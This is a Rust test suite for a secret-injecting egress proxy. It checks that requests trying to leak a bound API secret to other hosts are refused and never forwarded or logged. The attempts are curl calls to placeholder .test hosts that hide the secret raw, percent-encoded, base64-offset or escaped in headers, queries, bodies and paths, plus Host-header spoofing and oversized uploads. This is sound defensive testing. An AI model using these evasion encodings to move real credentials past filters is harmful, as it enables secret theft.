//! Exfiltration attempts: a real secret value (which a sandbox might have seen somehow) sent to a
//! host whose rule does not bind it, raw or encoded, in a header, the query, the body or the
//! path, is refused (`secret_value_unbound`) and never forwarded; a secret-bound host cannot be reached
//! under another Host.

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use serde_json::json;

use crate::support::secrets::{
    assert_no_leak, env_secrets_world, json_escaped, percent, SecretsWorld, OPENAI, WEIRD,
};
use crate::support::{assert_denial, assert_record};

const RULES: &str = r#"
[[rules]]
name  = "openai"
hosts = ["api.test"]
ports = [PORT]
[rules.inject.headers]
authorization = "Bearer {{secret.openai}}"
x-weird       = "{{secret.weird}}"

[[rules]]
name  = "maps"
hosts = ["a.wild.test"]
ports = [PORT]
[rules.inject.query]
key = "{{secret.maps}}"

[[rules]]
name  = "other"
hosts = ["other.test"]
ports = [PORT]
"#;

fn world() -> SecretsWorld {
    env_secrets_world(&["openai", "weird", "maps"], RULES)
}

#[test]
fn a_secret_value_sent_to_a_host_that_does_not_bind_it_is_refused_in_every_place_and_encoding() {
    let w = world();
    let other = |path: &str| w.url("other.test", path);
    // Escaped byte by byte after a backslash that is not its own: `\\u0073` reads as `\` and
    // `u0073` from the run's start; the check reads it shifted too (fails closed).
    let uni: String = OPENAI.bytes().map(|b| format!("\\u{b:04x}")).collect();
    let mut blob = vec![0xfbu8];
    blob.extend_from_slice(OPENAI.as_bytes());
    blob.extend_from_slice(b"\x00trailing bytes");
    let cases: Vec<(&str, Vec<String>)> = vec![
        (
            "raw value in a header",
            vec![
                "-H".into(),
                format!("X-Note: my key is {OPENAI}"),
                other("/x/1"),
            ],
        ),
        (
            "raw value as a bearer token",
            vec![
                "-H".into(),
                format!("Authorization: Bearer {OPENAI}"),
                other("/x/2"),
            ],
        ),
        (
            "raw value in the query",
            vec![other(&format!("/x/3?q={OPENAI}"))],
        ),
        (
            "percent-encoded value in the query",
            vec![other(&format!(
                "/x/4?q={}",
                percent(WEIRD.as_bytes(), true, false)
            ))],
        ),
        (
            "raw value in the body",
            vec![
                "--data-binary".into(),
                format!(r#"{{"stolen":"{OPENAI}"}}"#),
                other("/x/5"),
            ],
        ),
        (
            "value base64-encoded (offset 1) inside a body",
            vec![
                "--data-binary".into(),
                format!("blob={}", STANDARD.encode(&blob)),
                other("/x/6"),
            ],
        ),
        (
            "JSON-escaped value in a body",
            vec![
                "-H".into(),
                "Content-Type: application/json".into(),
                "--data-binary".into(),
                format!(r#"{{"stolen":"{}"}}"#, json_escaped(WEIRD, false, false)),
                other("/x/7"),
            ],
        ),
        (
            "value escaped byte by byte after a stray backslash in a body",
            vec![
                "-H".into(),
                "Content-Type: application/json".into(),
                "--data-binary".into(),
                format!(r#"{{"stolen":"\{uni}"}}"#),
                other("/x/10"),
            ],
        ),
        (
            "value escaped byte by byte after three backslashes in a JSON header",
            vec![
                "-H".into(),
                format!(r#"X-Arg: {{"k":"\\\{uni}"}}"#),
                other("/x/11"),
            ],
        ),
        (
            "value as a basic-auth password",
            vec!["-u".into(), format!("user:{OPENAI}"), other("/x/8")],
        ),
        (
            "value sent to a host whose rule binds another secret",
            vec![
                "--data-binary".into(),
                format!("k={OPENAI}"),
                w.url("a.wild.test", "/x/9"),
            ],
        ),
    ];

    for (what, args) in &cases {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = w.curl(&args);
        assert_eq!(out.exit, Some(0), "{what}: {out:#?}");
        assert_denial(&out.response, 403, None, "secret_value_unbound");
    }
    assert!(
        w.received("/x/").is_empty(),
        "a request holding a secret value was forwarded: {:#?}",
        w.received("/x/")
    );

    let records = w.lk.wait_audit(cases.len());
    for (record, (what, _)) in records.iter().zip(&cases) {
        assert!(
            record["path"]
                .as_str()
                .is_some_and(|p| p.starts_with("/x/")),
            "{what}: {record:#}"
        );
        assert_record(
            record,
            json!({
                "decision": "deny",
                "reason": "secret_value_unbound",
                "status": 403,
                "upstream": null,
            }),
        );
    }
    w.sweep();
}

#[test]
fn a_secret_bound_host_reached_under_another_host_header_is_refused() {
    let w = world();
    let port = w.port();
    for (connect, host) in [("api.test", "other.test"), ("other.test", "api.test")] {
        for flag in ["--http1.1", "--http2"] {
            let out = w.curl(&[
                flag,
                "-H",
                &format!("Host: {host}:{port}"),
                &w.url(connect, "/spoof"),
            ]);
            assert_eq!(out.exit, Some(0), "{out:#?}");
            assert_denial(&out.response, 403, None, "host_mismatch");
        }
    }
    assert!(
        w.received("/spoof").is_empty(),
        "a Host-spoofed request was forwarded: {:#?}",
        w.received("/spoof")
    );
    let records = w.lk.wait_audit(4);
    for record in &records {
        assert_record(
            record,
            json!({
                "decision": "deny",
                "reason": "host_mismatch",
                "status": 403,
                "upstream": null,
                "secrets": [],
            }),
        );
    }
    w.sweep();
}

/// A body of `len` bytes of filler with `value` at `at`, written to a file for `curl @file`.
fn body_file(w: &SecretsWorld, name: &str, len: usize, at: usize, value: &str) -> String {
    let mut body = vec![b'a'; len];
    body[at..at + value.len()].copy_from_slice(value.as_bytes());
    let path = w.dir.path().join(name);
    std::fs::write(&path, body).expect("write body file");
    format!("@{}", path.display())
}

#[test]
fn a_secret_value_in_a_body_over_8_mib_is_refused_and_never_reaches_the_upstream() {
    let w = world();
    const MIB: usize = 1024 * 1024;
    let cases = [
        ("across the 8 MiB mark", 9 * MIB, 8 * MIB - 10),
        ("near the end of a 9 MiB body", 9 * MIB, 9 * MIB - 100),
    ];
    let mut responses = Vec::new();
    for (i, (what, len, at)) in cases.iter().enumerate() {
        let data = body_file(&w, &format!("body{i}"), *len, *at, OPENAI);
        let out = w.curl(&[
            "--http1.1",
            "--data-binary",
            &data,
            &w.url("other.test", &format!("/big-upload/{i}")),
        ]);
        assert_eq!(out.exit, Some(0), "{what}: {out:#?}");
        responses.push((what, out.response));
    }
    // What reached the upstream first: a leak there is worse than a wrong answer.
    for seen in w.received("/big-upload/") {
        assert!(
            !crate::support::secrets::contains(&seen.body, OPENAI.as_bytes()),
            "the secret reached the upstream inside a large upload to {} ({} bytes arrived)",
            seen.path,
            seen.body.len()
        );
    }
    for (what, resp) in &responses {
        assert_eq!(
            (resp.status, resp.header("x-latchkey-reason")),
            (403, Some("secret_value_unbound")),
            "{what}: the upload must be refused with the same 403 as a small body: {resp:#?}"
        );
        assert_denial(resp, 403, None, "secret_value_unbound");
    }
    let records = w.lk.wait_audit(cases.len());
    for record in &records {
        assert_record(
            record,
            json!({"decision": "deny", "reason": "secret_value_unbound", "status": 403}),
        );
    }
    w.sweep();
}

#[test]
fn a_secret_value_in_the_url_is_refused_and_never_written_to_the_audit_or_the_log() {
    let w = env_secrets_world(
        &["openai"],
        r#"
[[rules]]
name  = "openai"
hosts = ["api.test"]
ports = [PORT]
[rules.inject.headers]
authorization = "Bearer {{secret.openai}}"

[[rules]]
name    = "other"
hosts   = ["other.test"]
ports   = [PORT]
methods = ["GET"]
"#,
    );
    // (method, host, path, expected status, expected reason)
    let cases = [
        (
            "GET",
            "other.test",
            format!("/u/1/{OPENAI}"),
            403,
            "secret_value_unbound",
        ),
        (
            "GET",
            "other.test",
            format!("/u/2?{OPENAI}"),
            403,
            "secret_value_unbound",
        ),
        (
            "GET",
            "other.test",
            format!("/u/3?k={OPENAI}"),
            403,
            "secret_value_unbound",
        ),
        // Refused by policy before any secret check: the record must not hold it either.
        (
            "POST",
            "other.test",
            format!("/u/4/{OPENAI}"),
            403,
            "method_not_allowed",
        ),
        // The host the value is bound to: forwarded, but not recorded.
        ("GET", "api.test", format!("/u/5/{OPENAI}"), 200, "allowed"),
    ];
    for (method, host, path, status, reason) in &cases {
        let out = w.curl(&["-X", method, &w.url(host, path)]);
        assert_eq!(out.exit, Some(0), "{method} {host}{path}: {out:#?}");
        assert_eq!(
            out.response.status, *status,
            "{method} {host}{path}: {out:#?}"
        );
        if *status != 200 {
            assert_denial(&out.response, *status, None, reason);
        }
    }
    assert!(
        w.received("/u/")
            .iter()
            .all(|r| r.path.starts_with("/u/5/")),
        "a refused request was forwarded: {:#?}",
        w.received("/u/")
    );
    let records = w.lk.wait_audit(cases.len());
    for (record, (method, host, _, status, reason)) in records.iter().zip(&cases) {
        assert_record(
            record,
            json!({"method": method, "host": host, "status": status, "reason": reason}),
        );
    }
    // Named separately so a failure says where the value went.
    assert_no_leak("the audit file", w.lk.audit_text().as_bytes(), &w.tracked());
    assert_no_leak(
        "latchkey's stderr",
        w.lk.stderr_text().as_bytes(),
        &w.tracked(),
    );
    w.sweep();
}
